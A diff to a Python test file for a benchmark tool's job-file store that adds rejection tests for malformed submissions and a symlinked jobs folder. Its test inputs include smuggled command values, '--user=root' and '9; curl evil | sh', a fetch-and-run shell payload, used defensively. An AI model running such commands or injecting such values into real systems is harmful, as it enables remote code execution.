@@ -13,6 +13,7 @@ from typer.testing import CliRunner
 
 from attnbench.bench.cli.app import app
 from attnbench.bench.core.cell import Cell
+from attnbench.bench.core.errors import StoreError
 from attnbench.bench.core.record import Machine, Outcome, Record
 from attnbench.bench.core.spec import Spec
 from attnbench.bench.run.events import Began, CellFinished, Event, Stage, TrainingProgress
@@ -21,7 +22,7 @@ from attnbench.bench.run.status import status_of
 
 MACHINE = Machine(id="m", system="s", processor="p", cores=2, threads=1, memory_bytes=1)
 BLOCK = "0123456789abcdef"
-SUBMITTED = Submission(block=BLOCK, lane="train", cells=("rela on t",), executor="local",
+SUBMITTED = Submission(block=BLOCK, lane="train", cells={"k": "rela on t"}, executor="local",
                        submitted="2026-01-01T00:00:00+00:00", seconds=60.0)  # fmt: skip
 
 
@@ -79,6 +80,10 @@ def test_progress_is_written_now_and_then_and_a_record_always(tmp_path: Path) ->
         b'{"block": 3}',
         b'{"block": "0123456789abcdef"',
         b'{"block": "ffffffffff"}',
+        *(
+            b'{"block":"0123456789abcdef","lane":"train","cells":{},"executor":"slurm","handle":"%s"}' % handle
+            for handle in (b"--user=root", b"9; curl evil | sh", "²".encode(), b"1_", b"1\\n", b"-1")
+        ),
         b"\xff\xfe",
         b"[" * 10**5,
     ],
@@ -100,6 +105,24 @@ def test_events_that_are_a_link_or_a_pipe_are_not_read(tmp_path: Path) -> None:
     path.unlink()
     os.mkfifo(path)
     assert files.events(BLOCK) == ([], 0) and not files.is_running(BLOCK)
+
+
+def test_a_link_to_another_folder_is_neither_written_nor_swept(tmp_path: Path) -> None:
+    other = JobFiles(tmp_path / "other")
+    other.submit(replace(SUBMITTED, ended="2026-01-01T00:00:00+00:00"))
+    write(other, Stage("k", "test"))
+    before = {path: path.read_bytes() for path in other.folder.iterdir()}
+    (tmp_path / "r").mkdir()
+    (tmp_path / "r" / "jobs").symlink_to(other.folder)
+    files = JobFiles(tmp_path / "r")
+    files.forget_ended()
+    assert files.submissions() == [] and files.blocks_with_events() == []
+    with pytest.raises(StoreError, match="a link"), files.submitting():
+        pass
+    for writing in (lambda: files.submit(SUBMITTED), lambda: files.claim("fedcba9876543210")):
+        with pytest.raises(StoreError, match="a link"):
+            writing()
+    assert {path: path.read_bytes() for path in other.folder.iterdir()} == before
 
 
 def test_status_tells_what_is_queued_runs_and_has_ended(tmp_path: Path) -> None:
@@ -138,7 +161,7 @@ def test_what_nobody_submits_any_more_is_interrupted_unless_slurm_has_it(tmp_pat
 
 
 def test_the_command_shows_text_of_others_as_it_stands(tmp_path: Path) -> None:
-    JobFiles(tmp_path).submit(replace(SUBMITTED, cells=("a\x1b[2Jb\nc",)))
+    JobFiles(tmp_path).submit(replace(SUBMITTED, cells={"k": "a\x1b[2Jb\nc"}))
     shown = CliRunner().invoke(app, ["status", "--results", str(tmp_path)])
     assert shown.exit_code == 0 and "\x1b" not in shown.output and "\nc" not in shown.output
     answer = json.loads(CliRunner().invoke(app, ["status", "--json", "--results", str(tmp_path)]).output)
